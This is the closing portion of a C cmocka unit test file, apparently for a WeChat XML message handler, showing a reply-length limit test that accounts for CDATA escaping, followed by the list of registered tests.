    /* Find the fixed overhead, then fill Content up to exactly WX_WECHAT_REPLY_MAX. */
    int overhead = wx_wechat_reply_text(&m, 1, "", out, sizeof out);
    assert_true(overhead > 0);
    static char content[WX_WECHAT_REPLY_MAX + 2];
    size_t fill = WX_WECHAT_REPLY_MAX - (size_t)overhead;
    memset(content, 'c', fill);
    content[fill] = '\0';
    assert_int_equal(wx_wechat_reply_text(&m, 1, content, out, sizeof out), WX_WECHAT_REPLY_MAX);
    content[fill] = 'c';
    content[fill + 1] = '\0';
    /* The buffer has room, but the reply limit does not. */
    assert_int_equal(wx_wechat_reply_text(&m, 1, content, out, sizeof out), -1);
    /* Escaping counts: splitting one "]]>" adds 12 bytes, which push it over too. */
    content[fill] = '\0';
    memcpy(content, "]]>", 3);
    assert_int_equal(wx_wechat_reply_text(&m, 1, content, out, sizeof out), -1);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_text_message),
        cmocka_unit_test(test_media_messages),
        cmocka_unit_test(test_location_and_link),
        cmocka_unit_test(test_events),
        cmocka_unit_test(test_template_job_finish),
        cmocka_unit_test(test_safe_and_compatible_mode),
        cmocka_unit_test(test_field_caps),
        cmocka_unit_test(test_body_size),
        cmocka_unit_test(test_depth_and_element_count),
        cmocka_unit_test(test_dtd_entities_pi),
        cmocka_unit_test(test_structure_and_garbage),
        cmocka_unit_test(test_required_fields),
        cmocka_unit_test(test_numbers_and_duplicates),
        cmocka_unit_test(test_reply_text),
        cmocka_unit_test(test_reply_cdata_escaping),
        cmocka_unit_test(test_reply_news),
        cmocka_unit_test(test_reply_image_and_transfer),
        cmocka_unit_test(test_reply_max),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
